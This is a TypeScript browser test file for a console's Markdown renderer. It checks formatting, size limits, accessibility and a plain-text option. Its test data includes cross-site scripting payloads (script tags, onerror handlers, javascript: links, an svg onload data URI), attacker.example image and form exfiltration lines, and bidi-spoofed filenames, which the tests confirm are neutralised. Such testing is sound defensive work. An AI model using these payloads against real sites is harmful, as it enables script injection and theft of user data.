import { readdirSync } from "node:fs";
import path from "node:path";
import type { Browser, BrowserContextOptions, Page } from "playwright-core";
import { afterAll, beforeAll, beforeEach, expect, test } from "vitest";
import { createInMemoryAdapter } from "../../adapters/in-memory-adapter.ts";
import { type Bridge, startBridge } from "../../support/start-bridge.ts";
import { openChromium } from "../open-chromium.ts";
import { type ConsolePage, expectQuiet, findAccessibilityViolations, openPage, scrollsSideways } from "./open-page.ts";

let browser: Browser;
let bridge: Bridge;
let page: Page;
let release = Promise.withResolvers<void>();
/** An agent that writes a text, waits, and writes another one. */
const writer = createInMemoryAdapter({
  provider: "writer",
  async run({ message }, emit) {
    emit("assistant.text", { content: message });
    await release.promise;
    emit("assistant.text", { content: " **and more**" });
    return { output: "done" };
  },
});
beforeAll(async () => {
  browser = await openChromium();
  bridge = await startBridge({}, { adapters: [{ provider: "writer", adapter: writer }] });
  ({ page } = await open("unknown"));
});
afterAll(async () => {
  await browser?.close();
  await bridge?.close();
});
beforeEach(() => {
  release = Promise.withResolvers();
});

const open = (target: string, options: BrowserContextOptions = {}): Promise<ConsolePage> =>
  openPage(browser, `${bridge.url}/ui/${target}`, { ...options, token: "secret-alpha" });

const code = readdirSync(path.resolve(import.meta.dirname, "../../../packages/console/dist/assets")).find((name) =>
  name.startsWith("markdown-"),
);

/** Renders a text in the page, with the code of the console. Returns the elements as HTML, without the attribute that each block has. */
async function render(markdown: string): Promise<string | null> {
  const html = await page.evaluate(
    `import("/ui/assets/${code}")
      .then(({ renderMarkdown }) => renderMarkdown(${JSON.stringify(markdown)}, { level: 3, show: (text) => text.replaceAll("\\u202e", "⟨U+202E⟩") }))
      .then((element) => element && element.innerHTML)`,
  );
  return (html as string | null)?.replaceAll(' dir="auto"', "") ?? null;
}

const link = (href: string, text: string): string =>
  `<a href="${href}" target="_blank" rel="noopener noreferrer" title="${href}">${text}</a>`;

const HIDDEN = "<p><em>⟨U+202E⟩a</em> <code>⟨U+202E⟩b</code> ⟨U+202E⟩c (⟨U+202E⟩d) ⟨U+202E⟩</p>";

test.each([
  ["a paragraph", "one\ntwo\n\nthree", "<p>one\ntwo</p><p>three</p>"],
  ["emphasis", "*a* **b** ~~c~~ `d`", "<p><em>a</em> <strong>b</strong> <del>c</del> <code>d</code></p>"],
  ["an escape and a reference to a character", "\\*a\\* &#42;", "<p>*a* *</p>"],
  ["a line break", "a  \nb", "<p>a<br>b</p>"],
  ["a heading", "# a\n## b\n# c", "<h3>a</h3><h4>b</h4><h3>c</h3>"],
  ["a heading that skips levels", "### a\n###### b\n# c", "<h3>a</h3><h4>b</h4><h3>c</h3>"],
  ["a heading without a text", "#\n\n# ![](x)", "<h3> (x)</h3>"],
  ["a list", "- a\n- b\n  - c", "<ul><li>a</li><li>b<ul><li>c</li></ul></li></ul>"],
  ["a numbered list", "3. a\n4. b", '<ol start="3"><li>a</li><li>b</li></ol>'],
  ["a list of tasks", "- [x] a\n- [ ] b", "<ul><li>☑ a</li><li>☐ b</li></ul>"],
  ["a quote", "> a\n>\n> > b", "<blockquote><p>a</p><blockquote><p>b</p></blockquote></blockquote>"],
  ["a block of code", "```html\n<b>\n```", "<pre><code>&lt;b&gt;</code></pre>"],
  ["a line", "a\n\n---", "<p>a</p><hr>"],
  [
    "a table",
    "|a||\n|-|:-:|\n|1|2|",
    '<div class="scroll"><table><thead><tr><th scope="col">a</th><td class="align-center"></td></tr></thead><tbody><tr><td>1</td><td class="align-center">2</td></tr></tbody></table></div>',
  ],
  ["a table without rows", "|a|\n|-|", '<div class="scroll"><table><thead><tr><td>a</td></tr></thead><tbody></tbody></table></div>'],
  ["a link", "[a](https://a.example/b?c)", `<p>${link("https://a.example/b?c", "a")}</p>`],
  ["a link without a text", "[](https://a.example/)", `<p>${link("https://a.example/", "https://a.example/")}</p>`],
  ["an address", "https://a.example/b", `<p>${link("https://a.example/b", "https://a.example/b")}</p>`],
  ["a mail address", "<a@b.example>", `<p>${link("mailto:a@b.example", "a@b.example")}</p>`],
  ["a link to a file", "[a](src/a.ts)", "<p>a (src/a.ts)</p>"],
  ["a link by reference", "[a][b]\n\n[b]: https://b.example/", `<p>${link("https://b.example/", "a")}</p><p>[b]: https://b.example/</p>`],
  ["a link with another protocol", "[a](javascript:alert(1))", "<p>a (javascript:alert(1))</p>"],
  ["a link with a disguised protocol", "[a](JAVA&#115;cript:alert(1))", "<p>a (JAVA&amp;#115;cript:alert(1))</p>"],
  ["a link to data", "[a](data:text/html,b)", "<p>a (data:text/html,b)</p>"],
  ["an image", "![a](https://a.example/b.png)", "<p>a (https://a.example/b.png)</p>"],
  ["an image as a link", "[![a](b.png)](https://a.example/)", `<p>${link("https://a.example/", "a (b.png)")}</p>`],
  ["HTML", "<b onclick=alert(1)>a</b>", "<p>&lt;b onclick=alert(1)&gt;a&lt;/b&gt;</p>"],
  ["a block of HTML", "<script>alert(1)</script>", "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>"],
  ["a comment", "<!-- a -->", "<p>&lt;!-- a --&gt;</p>"],
  ["hidden characters", "*\u202ea* `\u202eb` [\u202ec](\u202ed) &#x202e;", HIDDEN],
])("Markdown with %s becomes elements", async (_, markdown, html) => {
  expect(await render(markdown)).toBe(html);
});

test("a text that exceeds a limit is not rendered", async () => {
  expect(await render("a".repeat(20_000))).not.toBeNull();
  for (const markdown of ["a".repeat(20_001), "> ".repeat(1000), "*a* ".repeat(40).concat("\n\n").repeat(120)])
    expect(await render(markdown)).toBeNull();
});

const HOSTILE = [
  "### <img src=x onerror=alert(1)> **Approved** ### [x](javascript:alert(1))",
  "# <script>alert(2)</script>",
  "![secret](https://attacker.example/?secret) ![](data:image/svg+xml,<svg/onload=alert(1)>)",
  "[x](javascript:alert(3)) [y](vbscript:a) [z]( java\tscript:alert(1)) <javascript:alert(4)> [w](//attacker.example) [ok](https://ok.example/)",
  "<iframe src=https://attacker.example></iframe><style>*{display:none}</style><form action=//attacker.example><button>Sign in",
  "\u001b[31mred\u001b[0m \u202egpj.exe\u2066 \u200b[\u202elink](https://bidi.example/\u202e)",
  `- ${"https://link.example/ \n- ".repeat(5)}end`,
  `\`\`\`html" onclick="alert(1)\n<b>${"wide ".repeat(100)}\n\`\`\``,
  `|${"a long heading |".repeat(12)}\n|${"-|".repeat(12)}\n|${"<img src=x>|".repeat(12)}`,
  `${"> ".repeat(10)}quote\n\n${"x".repeat(2000)}`,
  "[a]: javascript:alert(5)\n\n[a]",
].join("\n\n");

/** Attributes that elements of a text may have. */
const ATTRIBUTES = ["class", "dir", "href", "rel", "scope", "tabindex", "target", "title"];

test("hostile Markdown renders text, harmless elements and links that a person opens, and nothing else", async () => {
  await bridge.dispatch({ taskId: "hostile", message: HOSTILE }, { headers: { prefer: "wait=20" } });
  const opened = await open("tasks/hostile", { viewport: { width: 320, height: 700 } });
  const { page: shown } = opened;
  await expect.poll(() => shown.locator(".markdown").count()).toBe(1);
  const text = await shown.locator("#result ~ bridge-markdown-text").textContent();
  for (const part of ["<img src=x onerror=alert(1)>", "<script>alert(2)</script>", "secret (https://attacker.example/?secret)"])
    expect(text).toContain(part);
  for (const part of [
    "x (javascript:alert(3))",
    "w (//attacker.example)",
    "<iframe src",
    "␛[31mred",
    "⟨U+202E⟩gpj.exe⟨U+2066⟩",
    "⟨U+202E⟩link",
  ])
    expect(text).toContain(part);
  const found = (await shown.evaluate(`(() => {
    const elements = [...document.querySelectorAll(".markdown, .markdown *")];
    return {
      names: [...new Set(elements.map(({ localName }) => localName))],
      attributes: [...new Set(elements.flatMap((element) => element.getAttributeNames()))].toSorted(),
      links: [...new Set(elements.filter(({ localName }) => localName === "a").map(({ protocol, rel, target }) => [protocol, rel, target].join()))],
    };
  })()`)) as Record<"names" | "attributes" | "links", string[]>;
  expect(found.links).toEqual(["https:,noopener noreferrer,_blank"]);
  expect(ATTRIBUTES).toEqual(expect.arrayContaining(found.attributes));
  for (const name of ["img", "script", "iframe", "style", "form", "button", "svg"]) expect(found.names).not.toContain(name);
  expect(await scrollsSideways(shown)).toBe(false);
  for (const block of [".markdown pre", ".markdown .scroll"])
    await expect.poll(() => shown.locator(block).first().getAttribute("tabindex")).toBe("0");
  for (const colorScheme of ["light", "dark"] as const) {
    await shown.emulateMedia({ colorScheme });
    expect(await findAccessibilityViolations(shown)).toEqual([]);
  }
  expectQuiet(opened);
});

test("a block that fits is no stop of the Tab key, and becomes one when it does not fit", async () => {
  await bridge.dispatch({ taskId: "fits", message: `\`\`\`\n${"wide ".repeat(10)}\n\`\`\`` }, { headers: { prefer: "wait=20" } });
  const { page: shown } = await open("tasks/fits");
  const block = shown.locator(".markdown pre").first();
  await block.waitFor();
  expect(await block.getAttribute("tabindex")).toBeNull();
  await shown.setViewportSize({ width: 320, height: 700 });
  await expect.poll(() => block.getAttribute("tabindex")).toBe("0");
});

test("a text is plain while it grows, and has its format when it is complete", async () => {
  await bridge.dispatch({ taskId: "grows", provider: "writer", message: "It **begins**" });
  const { page: shown } = await open("tasks/grows");
  const timeline = shown.getByRole("region", { name: "Timeline" });
  await timeline.getByText("It **begins**").waitFor();
  release.resolve();
  await timeline.locator("strong").filter({ hasText: "and more" }).waitFor();
  expect(await timeline.locator(".markdown").innerHTML()).toBe('<p dir="auto">It <strong>begins</strong> <strong>and more</strong></p>');
});

test("a person can choose plain text, which the browser remembers, and the code of Markdown is loaded only when it is needed", async () => {
  await bridge.dispatch({ taskId: "choice", message: "It is **done**" }, { headers: { prefer: "wait=20" } });
  const opened = await open("tasks");
  const { page: shown } = opened;
  const loaded: string[] = [];
  shown.on("request", (request) => loaded.push(request.url()));
  const loads = (): boolean => loaded.some((url) => url.includes("/assets/markdown-"));
  await shown.getByRole("link", { name: "choice" }).waitFor();
  expect(loads()).toBe(false);
  await shown.getByRole("link", { name: "choice" }).click();
  await shown.locator(".markdown strong").first().waitFor();
  expect(loads()).toBe(true);
  const choose = async (name: string): Promise<void> => {
    await shown.getByLabel("More actions").click();
    await shown.getByRole("button", { name }).press("Enter");
  };
  await choose("Show plain text");
  await shown.getByRole("region", { name: "Result" }).getByText("It is **done**").waitFor();
  expect(await shown.locator(".markdown").count()).toBe(0);

  loaded.length = 0;
  await shown.reload();
  await shown.getByRole("region", { name: "Result" }).getByText("It is **done**").waitFor();
  expect(loads()).toBe(false);
  await choose("Show Markdown");
  await shown.locator(".markdown strong").first().waitFor();
  expectQuiet(opened);
});
